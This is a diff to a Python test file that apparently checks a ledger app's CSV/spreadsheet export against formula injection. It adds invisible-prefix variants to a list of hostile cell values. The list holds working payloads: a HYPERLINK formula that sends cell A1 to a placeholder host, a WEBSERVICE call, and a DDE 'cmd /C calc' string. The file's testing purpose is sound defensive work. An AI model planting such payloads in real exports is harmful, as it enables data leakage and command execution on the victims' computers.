@@ -8,7 +8,8 @@ from openpyxl import load_workbook
 from tests.conftest import sign_in_tester
 
 HOSTILE = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点我\")", "=WEBSERVICE(\"http://example.invalid\")",
-           "+1+2", "-2+3", "@SUM(A1:A2)", " \t=1+1", "\r=cmd|' /C calc'!A0"]
+           "+1+2", "-2+3", "@SUM(A1:A2)", " \t=1+1", "\r=cmd|' /C calc'!A0",
+           "\ufeff=HYPERLINK(\"http://example.invalid\")", "\u200b\u2060+1+1"]  # invisible prefixes, skipped by Excel
 
 
 @pytest.fixture
@@ -64,5 +65,6 @@ def test_jsonl_export_imports_back_into_an_empty_database(hostile_desk, tmp_path
 def test_leading_whitespace_does_not_hide_a_formula():
     from app.ledger.spreadsheet_safety import csv_cell, is_risky
 
-    assert all(is_risky(t) for t in HOSTILE) and is_risky("\n\t @x")
+    assert all(is_risky(t) for t in HOSTILE) and is_risky("\n\t @x") and is_risky("\u3000=1")
+    assert not is_risky("\ufeff王某") and not is_risky("1-2")
     assert csv_cell(" \t=1+1") == "' \t=1+1" and csv_cell("王某") == "王某" and csv_cell(5) == 5
